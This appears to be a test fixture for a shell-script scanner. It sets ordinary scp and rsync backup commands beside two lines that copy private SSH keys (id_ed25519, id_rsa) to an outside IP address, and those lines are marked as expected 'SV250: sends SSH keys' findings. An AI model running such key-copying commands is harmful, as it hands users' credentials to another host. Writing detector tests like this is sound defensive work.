#!/usr/bin/env bash
# The key logs in; its content is not copied.
scp -i ~/.ssh/backup_key /var/backups/db.tar.gz backup@files.example.org:/srv/
rsync -avz -e "ssh -i ~/.ssh/backup_key" /var/backups/ backup@files.example.org:/srv/
scp /var/backups/site.tar.gz backup@files.example.org:/srv/

# Look-alikes: the key itself is copied away.
scp ~/.ssh/id_ed25519 backup@203.0.113.7:/tmp/ # want "critical SV250: sends SSH keys"
rsync -i ~/.ssh/id_rsa backup@203.0.113.7:/tmp/ # want "critical SV250: sends SSH keys"
